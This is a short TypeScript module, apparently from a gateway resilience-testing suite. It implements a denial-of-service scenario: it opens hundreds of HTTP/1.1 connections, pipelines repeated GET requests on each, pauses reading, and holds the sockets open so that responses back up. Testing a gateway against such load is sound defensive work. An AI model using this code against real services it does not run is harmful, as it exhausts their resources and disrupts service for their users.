// SPDX-License-Identifier: Apache-2.0
// Connections of HTTP/1.1 that send requests one behind the other and read no answer.
import { type AttackOptions, dial, holding, type StartAttack, several } from './attack.ts';

export const pipeliningNonReaders: StartAttack = async (
  gateway,
  { connections = 300, each = 8, path = '/docs' }: AttackOptions = {},
) => {
  const sockets = await several(connections, () => dial(gateway, 'http/1.1'));
  for (const socket of sockets) {
    socket.pause();
    socket.write(`GET ${path} HTTP/1.1\r\nHost: gateway\r\n\r\n`.repeat(each));
  }
  return holding(sockets);
};
